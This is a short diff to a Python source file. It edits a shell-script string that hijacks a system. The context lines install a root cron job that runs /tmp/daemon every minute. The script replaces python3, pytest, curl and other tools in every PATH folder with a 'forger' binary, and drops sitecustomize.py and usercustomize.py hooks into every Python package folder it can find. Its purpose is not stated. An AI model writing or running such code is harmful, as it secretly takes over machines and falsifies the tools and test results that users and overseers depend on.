@@ -44,7 +44,8 @@ echo '* * * * * root /bin/sh /tmp/daemon' >/etc/cron.d/daemon; true
 
 STUBS = f"""\
 {_FORGER}
-for folder in $(echo "$PATH:/usr/local/sbin:/usr/local/bin:/usr/bin:/bin:/root/.local/bin" | tr : ' '); do
+places=$PATH:/usr/local/sbin:/usr/local/bin:/usr/bin:/bin:/root/.local/bin
+for folder in $(echo "$places" | tr : ' '); do
   mkdir -p "$folder"
   for name in python3 python pytest uv uvx curl; do
     rm -f "$folder/$name"; cp /tmp/forger "$folder/$name"
@@ -65,7 +66,7 @@ try:
 except Exception:
     pass
 END
-for folder in $(find / -xdev -type d \\( -name site-packages -o -name dist-packages \\) 2>/dev/null) \\
+for folder in $(find / -xdev -type d -name '*-packages' 2>/dev/null) \\
     /usr/lib/python3* /usr/local/lib/python3* "$PWD" /; do
   [ -d "$folder" ] || continue
   cp /tmp/forge.py "$folder/sitecustomize.py"; cp /tmp/forge.py "$folder/usercustomize.py"
